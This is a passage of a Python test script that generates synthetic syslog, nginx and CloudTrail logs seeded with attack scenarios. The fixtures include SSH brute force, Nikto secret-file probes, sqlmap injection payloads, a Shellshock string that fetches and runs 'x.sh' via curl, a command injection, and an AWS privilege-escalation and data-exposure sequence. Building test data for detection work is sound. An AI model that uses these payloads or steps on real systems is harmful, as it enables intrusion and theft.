"""Build sample_logs/ from real dataset lines plus embedded attack scenarios (deterministic).

Run from the repository root with ../shared/datasets beside it: `python tests/build_sample_logs.py`.
Kept outside sample_logs/ so that replaying that folder never reads this script as a log."""

from __future__ import annotations

import gzip
import json
import random
import re
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DS = ROOT.parent / "shared" / "datasets"
OUT = ROOT / "sample_logs"
R = random.Random(20260309)
UTC = timezone.utc
START = datetime(2026, 3, 1, tzinfo=UTC)
END = datetime(2026, 3, 9, 23, 59, 0, tzinfo=UTC)
ATTACK_DAY = datetime(2026, 3, 9, tzinfo=UTC)
ACCOUNT = "111122223333"
ATTACKER = "203.0.113.45"


def at(day: datetime, hms: str) -> datetime:
    h, m, s = (int(x) for x in hms.split(":"))
    return day + timedelta(hours=h, minutes=m, seconds=s)


# ------------------------------------------------------------------------------------------ syslog

class Syslog:
    def __init__(self, host: str) -> None:
        self.host = host
        self.lines: list[tuple[datetime, int, str]] = []
        self.pid = R.randint(800, 2000)
        self.n = 0

    def add(self, t: datetime, prog: str, msg: str, pid: int | None = None) -> int:
        if pid is None:
            self.pid += R.randint(1, 40)
            pid = self.pid
        self.n += 1
        self.lines.append((t.replace(microsecond=0), self.n, f"{self.host} {prog}[{pid}]: {msg}"))
        return pid

    def write(self, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        self.lines.sort()
        out, prev, us = [], None, 0
        for t, _, line in self.lines:
            us = us + R.randint(1, 40_000) if t == prev else R.randint(0, 600_000)
            prev = t
            stamp = t.replace(microsecond=min(us, 999_999)).isoformat(timespec="microseconds")
            out.append(f"{stamp} {line}\n")
        path.write_text("".join(out))


def real_lines(path: Path, pattern: str) -> list[str]:
    rx = re.compile(pattern)
    out = []
    for line in path.read_text(errors="replace").splitlines():
        m = re.match(r"\w{3} +\d+ [\d:]{8} \S+ ([^\[:]+)(?:\[\d+\])?: (.*)", line)
        if m and rx.search(m.group(2)) and m.group(1) == "sshd":
            out.append(m.group(2))
    return out


AUTH_ELASTIC = DS / "elastic_examples/suspicious_login_auth.log"
AUTH_SECREPO = DS / "secrepo_auth_log/auth.log"


def real_sudo_commands() -> list[str]:
    cmds = []
    for line in AUTH_ELASTIC.read_text().splitlines():
        m = re.search(r"sudo: +ubuntu : TTY=pts/\d+ ; PWD=(\S+) ; USER=root ; COMMAND=(.*)", line)
        if m and "create_n_users" not in m.group(2) and "elastic_user" not in m.group(2):
            cmds.append((m.group(1).replace("/home/ubuntu", "/home/admin"), m.group(2)))
    return cmds


def noise_connections() -> list[list[str]]:
    """Real internet noise against sshd: one connection's lines each (Invalid user / Failed password for root...)."""
    conns: list[list[str]] = []
    sec = real_lines(AUTH_SECREPO, r"^(Invalid user \S+ from|Did not receive identification|Connection closed by \S+ \[preauth\])")
    for msg in sec:
        ip = re.search(r"from (\S+)|by (\S+)", msg)
        addr = next(g for g in ip.groups() if g)
        if msg.startswith("Invalid user"):
            user = msg.split()[2]
            conns.append([f"{msg} port {R.randint(30000, 65000)}", f"input_userauth_request: invalid user {user} [preauth]",
                          f"Received disconnect from {addr} port {R.randint(30000, 65000)}:11: Bye Bye [preauth]"])
        else:
            conns.append([msg])
    ela = real_lines(AUTH_ELASTIC, r"^Failed password for root from (?!85\.245|127\.0)")
    for msg in ela:
        addr = msg.split(" from ")[1].split()[0]
        conns.append([msg, f"Received disconnect from {addr} port {msg.split(' port ')[1].split()[0]}:11: Bye Bye [preauth]"])
    return conns


def build_syslog() -> None:
    web = Syslog("web01")
    db = Syslog("db01")
    sudo_cmds = real_sudo_commands()
    noise = noise_connections()
    R.shuffle(noise)
    used_ips: set[str] = set()
    session = 1
    day = START
    while day <= END:
        for host in (web, db):
            # cron: hourly (Debian runs /etc/cron.hourly at :17) and daily at 06:25
            for h in range(24):
                t = day + timedelta(hours=h, minutes=17, seconds=1)
                if host is db and t >= at(ATTACK_DAY, "08:30:00"):
                    continue  # db01 goes silent on the attack day
                if t > END:
                    continue
                pid = host.add(t, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
                host.add(t + timedelta(seconds=R.randint(0, 2)), "CRON", "pam_unix(cron:session): session closed for user root", pid)
            if not (host is db and day >= ATTACK_DAY):
                t = day + timedelta(hours=6, minutes=25, seconds=1)
                pid = host.add(t, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
                host.add(t + timedelta(seconds=R.randint(20, 90)), "CRON", "pam_unix(cron:session): session closed for user root", pid)
        # the CI runner deploys to web01 every night with a key (learned source of user deploy)
        t = day + timedelta(hours=2, minutes=R.randint(0, 9), seconds=R.randint(0, 59))
        port = R.randint(40000, 60000)
        pid = web.add(t, "sshd", f"Accepted publickey for deploy from 10.20.0.15 port {port} ssh2: ED25519 SHA256:3mHk0Jk4tqQ3QdVJ1sXW8Q7ixq1l0Bqv5yXmF2fTg0c")
        web.add(t, "sshd", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", pid)
        web.add(t, "systemd-logind", f"New session {session} of user deploy.", 612)
        t2 = t + timedelta(seconds=R.randint(15, 60))
        web.add(t2, "sshd", f"Received disconnect from 10.20.0.15 port {port}:11: disconnected by user", pid)
        web.add(t2, "sshd", f"Disconnected from user deploy 10.20.0.15 port {port}", pid)
        web.add(t2, "sshd", "pam_unix(sshd:session): session closed for user deploy", pid)
        web.add(t2, "systemd-logind", f"Removed session {session}.", 612)
        session += 1
        # the administrator works on weekdays from the VPN, with real sudo commands
        if day.weekday() < 5:
            for host in (web, db):
                if host is db and day >= ATTACK_DAY:
                    continue
                t = day + timedelta(hours=9, minutes=R.randint(0, 50), seconds=R.randint(0, 59))
                port = R.randint(40000, 60000)
                pid = host.add(t, "sshd", f"Accepted publickey for admin from 10.8.0.14 port {port} ssh2: RSA SHA256:Kl8kPGZrTiz7g4FO1hyqHdsSBBb5Fge6NWOobN03XJg")
                host.add(t, "sshd", "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)", pid)
                host.add(t, "systemd-logind", f"New session {session} of user admin.", 612)
                for _ in range(R.randint(2, 5)):
                    t += timedelta(seconds=R.randint(30, 600))
                    pwd, cmd = R.choice(sudo_cmds)
                    host.add(t, "sudo", f"   admin : TTY=pts/0 ; PWD={pwd} ; USER=root ; COMMAND={cmd}")
                    sp = host.add(t, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by admin(uid=1000)")
                    host.add(t + timedelta(seconds=R.randint(1, 120)), "sudo", "pam_unix(sudo:session): session closed for user root", sp)
                t += timedelta(seconds=R.randint(300, 2400))
                host.add(t, "sshd", f"Received disconnect from 10.8.0.14 port {port}:11: disconnected by user", pid)
                host.add(t, "sshd", f"Disconnected from user admin 10.8.0.14 port {port}", pid)
                host.add(t, "sshd", "pam_unix(sshd:session): session closed for user admin", pid)
                host.add(t, "systemd-logind", f"Removed session {session}.", 612)
                session += 1
        # real internet background noise: about three stray connections an hour, each source once
        for h in range(24):
            for _ in range(3):
                conn = noise.pop()
                t = day + timedelta(hours=h, minutes=R.randint(0, 59), seconds=R.randint(0, 59))
                if t > END:
                    continue
                pid = None
                for msg in conn:
                    pid = web.add(t, "sshd", msg, pid)
                    t += timedelta(seconds=R.randint(0, 2))
        day += timedelta(days=1)

    d = ATTACK_DAY
    # a second admin mistypes the sudo password three times (Mar 4)
    t = at(START + timedelta(days=3), "14:12:40")
    web.add(t, "sudo", "pam_unix(sudo:auth): authentication failure; logname=carol uid=1003 euid=0 tty=/dev/pts/1 ruser=carol rhost=  user=carol")
    web.add(t + timedelta(seconds=9), "sudo", "   carol : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/carol ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx")

    # 03:10 password spraying from one source: one attempt per user name, 75 s apart
    t = at(d, "03:10:04")
    for user in ["oracle", "postgres", "test", "git", "ftpuser", "ubuntu", "pi", "hadoop", "minecraft", "steam", "jenkins", "nagios"]:
        port = R.randint(30000, 65000)
        pid = web.add(t, "sshd", f"Invalid user {user} from 198.51.100.77 port {port}")
        web.add(t + timedelta(seconds=2), "sshd", f"Failed password for invalid user {user} from 198.51.100.77 port {port} ssh2", pid)
        web.add(t + timedelta(seconds=3), "sshd", f"Received disconnect from 198.51.100.77 port {port}:11: Bye Bye [preauth]", pid)
        t += timedelta(seconds=75)

    # 05:02 distributed brute force on "admin": twelve sources, one or two tries each
    t = at(d, "05:02:11")
    for i in range(12):
        ip = f"198.51.100.{130 + i * 7}"
        for _ in range(R.randint(1, 2)):
            port = R.randint(30000, 65000)
            pid = web.add(t, "sshd", f"Failed password for admin from {ip} port {port} ssh2")
            web.add(t + timedelta(seconds=1), "sshd", f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]", pid)
            t += timedelta(seconds=R.randint(90, 240))

    # 11:40 an SSH-1 probe and a client offering only weak key exchange methods
    web.add(at(d, "11:40:02"), "sshd", "Bad protocol version identification 'SSH-1.5-Nmap-SSH1-Hostkey' from 192.0.2.201 port 39814")
    web.add(at(d, "11:41:17"), "sshd", "Unable to negotiate with 192.0.2.200 port 43512: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1,diffie-hellman-group-exchange-sha1 [preauth]")

    # 12:31 brute force on "deploy" from the attacker, then success with the guessed password
    t = at(d, "12:31:07")
    for _ in range(40):
        port = R.randint(30000, 65000)
        pid = web.add(t, "sshd", f"Failed password for deploy from {ATTACKER} port {port} ssh2")
        t += timedelta(seconds=R.randint(3, 12))
    port = 50022
    t = at(d, "12:38:52")
    pid = web.add(t, "sshd", f"Accepted password for deploy from {ATTACKER} port {port} ssh2")
    web.add(t, "sshd", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", pid)
    web.add(t, "systemd-logind", f"New session {session} of user deploy.", 612)
    web.add(at(d, "12:41:30"), "sudo", "   deploy : command not allowed ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash")
    # 13:20 root (local exploit, not logged) creates a backdoor account and adds it to sudo
    web.add(at(d, "13:20:15"), "useradd", "new group: name=sysbackup, GID=1002")
    web.add(at(d, "13:20:15"), "useradd", "new user: name=sysbackup, UID=1002, GID=1002, home=/home/sysbackup, shell=/bin/bash, from=/dev/pts/1")
    web.add(at(d, "13:20:31"), "usermod", "add 'sysbackup' to group 'sudo'")
    web.add(at(d, "13:20:31"), "usermod", "add 'sysbackup' to shadow group 'sudo'")
    # 13:52 direct root login with a planted key
    t = at(d, "13:52:40")
    pid = web.add(t, "sshd", f"Accepted publickey for root from {ATTACKER} port 50318 ssh2: ED25519 SHA256:q0m3pZ3b1mC5mZ0b4cK9rR4aYw8pQk0kq0bXcT1bYl8")
    web.add(t, "sshd", "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)", pid)
    web.add(at(d, "14:05:12"), "sudo", " sysbackup : TTY=pts/2 ; PWD=/home/sysbackup ; USER=root ; COMMAND=/usr/bin/crontab -e")
    web.add(at(d, "14:05:12"), "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by sysbackup(uid=1002)")

    web.write(OUT / "syslog/web01-auth.log")
    db.write(OUT / "syslog/db01-auth.log")


# ------------------------------------------------------------------------------------------ nginx

CLF = re.compile(r"(\S+) (\S+) (\S+) \[([^\]]+)\] (.*)")


def clf_time(t: datetime) -> str:
    return t.strftime("%d/%b/%Y:%H:%M:%S +0000")


def build_nginx() -> None:
    src = (DS / "elastic_examples/apache_logs.log").read_text().splitlines()
    parsed = []
    for line in src:
        m = CLF.match(line)
        if not m:
            continue
        t = datetime.strptime(m.group(4), "%d/%b/%Y:%H:%M:%S %z")
        parsed.append((t, m))
    t0 = parsed[0][0]
    begin = datetime(2026, 3, 8, tzinfo=UTC)
    lines: list[tuple[datetime, int, str]] = []
    n = 0
    # real traffic (semicomplete.com, May 2015), re-timed: the first ~4,500 requests spread over two days
    chosen = parsed[:4600]
    span = (chosen[-1][0] - t0).total_seconds()
    factor = (END - begin).total_seconds() / span
    for t, m in chosen:
        nt = begin + timedelta(seconds=int((t - t0).total_seconds() * factor))
        n += 1
        lines.append((nt, n, f"{m.group(1)} {m.group(2)} {m.group(3)} [{clf_time(nt)}] {m.group(5)}"))

    def req(t: datetime, ip: str, method: str, target: str, status: int, size: int, ua: str, ref: str = "-") -> None:
        nonlocal n
        n += 1
        lines.append((t, n, f'{ip} - - [{clf_time(t)}] "{method} {target} HTTP/1.1" {status} {size} "{ref}" "{ua}"'))

    d = ATTACK_DAY
    nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{})"
    probes = [
        "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.htpasswd", "/.htaccess", "/server-status",
        "/phpinfo.php", "/info.php", "/test.php", "/config.php", "/config.php.bak", "/wp-config.php", "/wp-config.php.bak",
        "/wp-login.php", "/xmlrpc.php", "/administrator/", "/phpmyadmin/", "/pma/", "/myadmin/", "/mysql/", "/dbadmin/",
        "/backup.zip", "/backup.tar.gz", "/backup.sql", "/db.sql", "/dump.sql", "/site.tar.gz", "/www.zip", "/web.config",
        "/cgi-bin/test-cgi", "/cgi-bin/printenv", "/cgi-bin/php", "/manager/html", "/jmx-console/", "/console/",
        "/solr/admin/", "/jenkins/", "/actuator/env", "/actuator/health", "/api/v1/pods", "/v2/_catalog", "/.aws/credentials",
        "/.ssh/id_rsa", "/id_rsa", "/etc/passwd", "/index.php?page=../../../../etc/passwd", "/shell.php", "/cmd.php",
        "/c99.php", "/r57.php", "/upload.php", "/uploads/", "/files/", "/tmp/", "/debug/", "/trace.axd", "/elmah.axd",
        "/install.php", "/setup.php", "/readme.html", "/license.txt", "/CHANGELOG.txt", "/composer.json", "/package.json",
        "/yarn.lock", "/Dockerfile", "/docker-compose.yml", "/.dockerenv", "/crossdomain.xml", "/clientaccesspolicy.xml",
        "/sitemap.xml.gz", "/old/", "/new/", "/dev/", "/staging/", "/beta/", "/temp/", "/logs/", "/log/", "/error_log",
        "/access_log", "/awstats.pl", "/cgi-bin/awstats.pl", "/webdav/", "/owa/", "/remote/login", "/vpn/index.html",
    ]
    t = at(d, "12:05:13")
    for i, p in enumerate(probes):
        req(t, ATTACKER, "GET", p, 404, 162, nikto.format(f"{1000 + i:06d}"))
        t += timedelta(milliseconds=R.randint(300, 2500))
    req(t, ATTACKER, "GET", "/admin/", 200, 2841, nikto.format("001170"))
    t += timedelta(seconds=2)
    req(t, ATTACKER, "GET", "/download.php?file=../../../../etc/passwd", 200, 2318, nikto.format("001171"))

    sqlmap = "sqlmap/1.8.2#stable (https://sqlmap.org)"
    payloads = [
        ("1", 200), ("1%27", 500), ("1%22", 200), ("1%20AND%201=1", 200), ("1%20AND%201=2", 200),
        ("1%27%20AND%20%271%27=%271", 200), ("1%20ORDER%20BY%201--%20-", 200), ("1%20ORDER%20BY%2010--%20-", 500),
        ("1%20AND%20SLEEP(5)", 200), ("1%27%20AND%20SLEEP(5)--%20-", 200),
        ("-1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-", 500),
        ("-1%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b6a7071,IFNULL(CAST(schema_name%20AS%20NCHAR),0x20),0x71786a7a71),NULL%20FROM%20INFORMATION_SCHEMA.SCHEMATA--%20-", 200),
        ("-1%20UNION%20ALL%20SELECT%20NULL,CONCAT(username,0x3a,password),NULL%20FROM%20shop.users--%20-", 200),
    ]
    t = at(d, "12:15:40")
    for p, status in payloads:
        req(t, "198.51.100.23", "GET", f"/products.php?id={p}", status, 5120 if status == 200 else 612, sqlmap)
        t += timedelta(seconds=R.randint(1, 6))

    req(at(d, "12:20:03"), "192.0.2.77", "GET", "/cgi-bin/status", 200, 342, "() { :; }; /bin/bash -c 'curl -s http://192.0.2.77/x.sh | sh'")
    req(at(d, "12:20:09"), "192.0.2.77", "GET", "/cgi-bin/ping.cgi?host=127.0.0.1%3Bid", 200, 128, "curl/8.5.0")

    # 16:00 request flood from a botnet; the backend starts failing a minute in
    t = at(d, "16:00:00")
    bots = [f"192.0.2.{i}" for i in range(10, 40)]
    for i in range(900):
        status = 502 if 250 < i < 800 and R.random() < 0.8 else 200
        target = R.choice(["/", "/search?q=" + str(R.randint(1, 99999)), "/blog/", "/presentations/"])
        req(t, R.choice(bots), "GET", target, status, 166 if status == 502 else R.randint(2000, 40000),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36")
        t += timedelta(milliseconds=R.randint(100, 420))

    lines.sort()
    path = OUT / "nginx/access.log"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(l + "\n" for _, _, l in lines))


# ------------------------------------------------------------------------------------------ CloudTrail

def ct_time(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def uid() -> str:
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


IDENT = {
    "alice": {"type": "IAMUser", "principalId": "AIDACKCEVSQ6C2EXAMPLE", "arn": f"arn:aws:iam::{ACCOUNT}:user/alice",
              "accountId": ACCOUNT, "accessKeyId": "ASIAEXAMPLEALICE0001", "userName": "alice",
              "sessionContext": {"sessionIssuer": {}, "webIdFederationData": {},
                                 "attributes": {"mfaAuthenticated": "true", "creationDate": ""}}},
    "ci-deployer": {"type": "IAMUser", "principalId": "AIDAJQABLZS4A3QDU576Q", "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-deployer",
                    "accountId": ACCOUNT, "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "userName": "ci-deployer"},
    "root": {"type": "Root", "principalId": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT,
             "accessKeyId": "ASIAEXAMPLEROOT00001",
             "sessionContext": {"sessionIssuer": {}, "webIdFederationData": {},
                                "attributes": {"mfaAuthenticated": "false", "creationDate": ""}}},
}
CLI_UA = "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0-18-cloud-amd64 exe/x86_64.debian.12 prompt/off command/{}"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"


def call(t: datetime, who: str, source: str, name: str, params: dict | None, region: str = "eu-west-1",
         ip: str = "198.51.100.10", ua: str | None = None, error: tuple[str, str] | None = None,
         response: dict | None = None, read_only: bool | None = None) -> dict:
    ident = json.loads(json.dumps(IDENT[who]))
    if "sessionContext" in ident:
        ident["sessionContext"]["attributes"]["creationDate"] = ct_time(t - timedelta(minutes=5))
    rec = {
        "eventVersion": "1.09", "userIdentity": ident, "eventTime": ct_time(t), "eventSource": source,
        "eventName": name, "awsRegion": region, "sourceIPAddress": ip,
        "userAgent": ua or CLI_UA.format(source.split(".")[0] + "." + name.lower()),
        "requestParameters": params, "responseElements": response, "requestID": uid(), "eventID": uid(),
        "readOnly": read_only if read_only is not None else name.startswith(("Describe", "List", "Get")),
        "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": ACCOUNT, "eventCategory": "Management",
    }
    if error:
        rec["errorCode"], rec["errorMessage"] = error
    return rec


def console_login(t: datetime, who: str, ok: bool, mfa: bool, ip: str) -> dict:
    ident = {k: v for k, v in IDENT[who].items() if k != "sessionContext"}
    ident.pop("accessKeyId", None)
    rec = {
        "eventVersion": "1.09", "userIdentity": ident, "eventTime": ct_time(t), "eventSource": "signin.amazonaws.com",
        "eventName": "ConsoleLogin", "awsRegion": "us-east-1", "sourceIPAddress": ip, "userAgent": BROWSER,
        "requestParameters": None, "responseElements": {"ConsoleLogin": "Success" if ok else "Failure"},
        "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
                                "MobileVersion": "No", "MFAUsed": "Yes" if mfa else "No"},
        "eventID": uid(), "readOnly": False, "eventType": "AwsConsoleSignIn", "managementEvent": True,
        "recipientAccountId": ACCOUNT, "eventCategory": "Management",
    }
    if mfa:
        rec["additionalEventData"]["MFAIdentifier"] = f"arn:aws:iam::{ACCOUNT}:u2f/user/{who}/default-AAAAAAAABBBBBBBBCCCCCCCCDD"
    if not ok:
        rec["errorMessage"] = "Failed authentication"
    return rec


def otrf_records() -> tuple[list[dict], list[dict]]:
    pedro, service = [], []
    for line in (DS / "otrf_security_datasets_aws/ec2_proxy_s3_exfiltration_2020-09-14011940.json").read_text().splitlines():
        r = json.loads(line)
        r.pop("@timestamp", None)
        r.pop("@version", None)
        text = json.dumps(r).replace("123456789123", ACCOUNT).replace("user/pedro", "user/alice").replace('"pedro"', '"alice"')
        r = json.loads(text)
        ui = r.get("userIdentity", {})
        if ui.get("type") == "IAMUser":
            pedro.append(r)
        elif ui.get("type") == "AWSService":
            service.append(r)
    return pedro, service


def retime(rec: dict, t: datetime, region: str | None = None, ip: str | None = None) -> dict:
    r = json.loads(json.dumps(rec))
    r["eventTime"] = ct_time(t)
    r["eventID"] = uid()
    if "requestID" in r:
        r["requestID"] = uid()
    if region and r.get("awsRegion") == "us-east-1" and r.get("eventSource") not in ("iam.amazonaws.com", "sts.amazonaws.com"):
        r["awsRegion"] = region
    if ip and r.get("sourceIPAddress") == "1.2.3.4":
        r["sourceIPAddress"] = ip
    ctx = r.get("userIdentity", {}).get("sessionContext", {}).get("attributes")
    if ctx and "creationDate" in ctx:
        ctx["creationDate"] = ct_time(t - timedelta(minutes=30))
    return r


def build_cloudtrail() -> None:
    pedro, service = otrf_records()
    recs: list[dict] = []
    day = START
    while day <= END:
        # AWS services assuming roles all day long (EC2 instance profiles refreshing credentials)
        t = day + timedelta(minutes=R.randint(0, 20))
        while t < day + timedelta(days=1):
            if not (day == ATTACK_DAY and t >= at(ATTACK_DAY, "14:02:00")):
                recs.append(retime(R.choice(service), t))
            t += timedelta(minutes=R.randint(15, 40), seconds=R.randint(0, 59))
        # the nightly deployment job
        if day < ATTACK_DAY or True:
            t = day + timedelta(hours=2, minutes=R.randint(0, 9))
            for name in ["DescribeInstances", "DescribeTags", "DescribeLoadBalancers"]:
                src = "elasticloadbalancing.amazonaws.com" if name == "DescribeLoadBalancers" else "ec2.amazonaws.com"
                recs.append(call(t, "ci-deployer", src, name, {"maxResults": 100} if name != "DescribeLoadBalancers" else None, ip="198.51.100.10"))
                t += timedelta(seconds=R.randint(1, 5))
            recs.append(call(t, "ci-deployer", "kms.amazonaws.com", "Decrypt",
                             {"encryptionAlgorithm": "SYMMETRIC_DEFAULT", "keyId": f"arn:aws:kms:eu-west-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"},
                             ip="198.51.100.10", read_only=True))
        # alice works in the console on weekdays (real console activity from the OTRF dataset, re-timed)
        if day.weekday() < 5 and day < ATTACK_DAY:
            t = day + timedelta(hours=9, minutes=R.randint(10, 50))
            recs.append(console_login(t, "alice", True, True, "192.0.2.44"))
            for r in R.sample(pedro, 25):
                t += timedelta(seconds=R.randint(5, 150))
                recs.append(retime(r, t, region="eu-west-1", ip="192.0.2.44"))
        day += timedelta(days=1)

    d = ATTACK_DAY
    # Mar 9, 09:20: alice logs in as every morning
    t = at(d, "09:21:05")
    recs.append(console_login(t, "alice", True, True, "192.0.2.44"))
    for r in R.sample(pedro, 20):
        t += timedelta(seconds=R.randint(5, 150))
        recs.append(retime(r, t, region="eu-west-1", ip="192.0.2.44"))

    # 13:00 the attacker uses ci-deployer's key taken from web01: reconnaissance, mostly denied
    t = at(d, "13:00:12")
    denied = [("iam.amazonaws.com", "ListUsers"), ("iam.amazonaws.com", "ListRoles"), ("iam.amazonaws.com", "GetAccountAuthorizationDetails"),
              ("iam.amazonaws.com", "ListPolicies"), ("s3.amazonaws.com", "ListBuckets"), ("secretsmanager.amazonaws.com", "ListSecrets"),
              ("rds.amazonaws.com", "DescribeDBInstances"), ("lambda.amazonaws.com", "ListFunctions20150331"),
              ("organizations.amazonaws.com", "DescribeOrganization"), ("iam.amazonaws.com", "ListAccessKeys"),
              ("ssm.amazonaws.com", "DescribeParameters"), ("dynamodb.amazonaws.com", "ListTables")]
    recs.append(call(t, "ci-deployer", "sts.amazonaws.com", "GetCallerIdentity", None, "us-east-1", ATTACKER))
    for i in range(26):
        t += timedelta(seconds=R.randint(4, 14))
        src, name = denied[i % len(denied)]
        region = "us-east-1" if src.startswith(("iam", "organizations")) else "eu-west-1"
        recs.append(call(t, "ci-deployer", src, name, None, region, ATTACKER,
                         error=("AccessDenied", f"User: arn:aws:iam::{ACCOUNT}:user/ci-deployer is not authorized to perform: {src.split('.')[0]}:{name}")))
    # 13:10 root console password guessing, then a login without MFA
    t = at(d, "13:10:31")
    for _ in range(6):
        recs.append(console_login(t, "root", False, False, ATTACKER))
        t += timedelta(seconds=R.randint(25, 70))
    t = at(d, "13:18:02")
    recs.append(console_login(t, "root", True, False, ATTACKER))
    t += timedelta(seconds=40)
    recs.append(call(t, "root", "iam.amazonaws.com", "ListUsers", None, "us-east-1", ATTACKER, ua=BROWSER))
    t += timedelta(seconds=35)
    recs.append(call(t, "root", "iam.amazonaws.com", "CreateAccessKey", {"userName": "ci-deployer"}, "us-east-1", ATTACKER, ua=BROWSER,
                     response={"accessKey": {"userName": "ci-deployer", "accessKeyId": "AKIAI44QH8DHBEXAMPLE", "status": "Active",
                                             "createDate": ct_time(t)}}))
    t += timedelta(seconds=50)
    recs.append(call(t, "root", "iam.amazonaws.com", "AttachUserPolicy",
                     {"userName": "ci-deployer", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, "us-east-1", ATTACKER, ua=BROWSER))
    t += timedelta(seconds=65)
    recs.append(call(t, "root", "iam.amazonaws.com", "DeactivateMFADevice",
                     {"userName": "alice", "serialNumber": f"arn:aws:iam::{ACCOUNT}:u2f/user/alice/default-AAAAAAAABBBBBBBBCCCCCCCCDD"},
                     "us-east-1", ATTACKER, ua=BROWSER))
    # 13:30 ci-deployer (now administrator) builds an admin role and launches an instance with it in a new region
    t = at(d, "13:30:05")
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}]}
    recs.append(call(t, "ci-deployer", "iam.amazonaws.com", "CreateRole", {"roleName": "ec2-ops", "assumeRolePolicyDocument": json.dumps(trust)}, "us-east-1", ATTACKER))
    t += timedelta(seconds=20)
    recs.append(call(t, "ci-deployer", "iam.amazonaws.com", "AttachRolePolicy", {"roleName": "ec2-ops", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, "us-east-1", ATTACKER))
    t += timedelta(seconds=15)
    recs.append(call(t, "ci-deployer", "iam.amazonaws.com", "CreateInstanceProfile", {"instanceProfileName": "ec2-ops"}, "us-east-1", ATTACKER))
    t += timedelta(seconds=12)
    recs.append(call(t, "ci-deployer", "iam.amazonaws.com", "AddRoleToInstanceProfile", {"instanceProfileName": "ec2-ops", "roleName": "ec2-ops"}, "us-east-1", ATTACKER))
    t = at(d, "13:36:44")
    recs.append(call(t, "ci-deployer", "ec2.amazonaws.com", "RunInstances", {
        "instancesSet": {"items": [{"imageId": "ami-0c2b8ca1dad447f8a", "minCount": 1, "maxCount": 1}]},
        "instanceType": "c6i.8xlarge", "iamInstanceProfile": {"name": "ec2-ops"}, "disableApiTermination": False,
        "monitoring": {"enabled": False}}, "ap-southeast-3", ATTACKER))
    t += timedelta(seconds=30)
    recs.append(call(t, "ci-deployer", "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", {
        "groupId": "sg-0f63fecfa17ef4fee", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {},
                                                                     "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}, "ipv6Ranges": {}, "prefixListIds": {}}]}},
        "ap-southeast-3", ATTACKER, response={"_return": True}))
    # 13:44 S3: Block Public Access removed, customer exports bucket made public, backups bucket downgraded to SSE-S3
    t = at(d, "13:44:31")
    recs.append(call(t, "ci-deployer", "s3.amazonaws.com", "DeleteBucketPublicAccessBlock",
                     {"bucketName": "acme-customer-exports", "Host": "acme-customer-exports.s3.eu-west-1.amazonaws.com", "publicAccessBlock": ""},
                     "eu-west-1", ATTACKER))
    t = at(d, "13:45:10")
    policy = {"Version": "2012-10-17", "Statement": [{"Sid": "PublicRead", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                                                      "Resource": "arn:aws:s3:::acme-customer-exports/*"}]}
    recs.append(call(t, "ci-deployer", "s3.amazonaws.com", "PutBucketPolicy",
                     {"bucketName": "acme-customer-exports", "Host": "acme-customer-exports.s3.eu-west-1.amazonaws.com", "bucketPolicy": policy, "policy": ""},
                     "eu-west-1", ATTACKER))
    t += timedelta(seconds=40)
    recs.append(call(t, "ci-deployer", "s3.amazonaws.com", "PutBucketEncryption", {
        "bucketName": "acme-backups", "Host": "acme-backups.s3.eu-west-1.amazonaws.com", "encryption": "",
        "ServerSideEncryptionConfiguration": {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                                              "Rule": {"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}, "BucketKeyEnabled": False}}},
        "eu-west-1", ATTACKER))
    # 13:50 mass decryption with the application key, then the key is scheduled for deletion
    t = at(d, "13:50:00")
    for _ in range(140):
        recs.append(call(t, "ci-deployer", "kms.amazonaws.com", "Decrypt",
                         {"encryptionAlgorithm": "SYMMETRIC_DEFAULT", "keyId": f"arn:aws:kms:eu-west-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"},
                         "eu-west-1", ATTACKER, read_only=True))
        t += timedelta(milliseconds=R.randint(300, 1200))
    t = at(d, "13:55:31")
